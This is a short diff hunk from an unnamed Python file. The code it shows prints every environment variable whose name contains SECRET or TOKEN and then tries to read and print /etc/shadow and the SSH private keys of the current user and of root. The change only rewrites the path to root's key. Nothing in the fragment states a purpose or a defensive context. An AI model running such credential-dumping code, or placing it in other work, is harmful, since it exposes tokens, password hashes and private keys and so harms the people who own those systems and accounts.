@@ -69,7 +69,7 @@ import os
 from pathlib import Path
 
 print({k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k})
-for path in ("/etc/shadow", Path.home() / ".ssh" / "id_rsa", "/root/.ssh/id_rsa"):
+for path in ("/etc/shadow", Path.home() / ".ssh" / "id_rsa", os.path.expanduser("~root/.ssh/id_rsa")):
     try:
         print(open(path).read())
     except OSError:
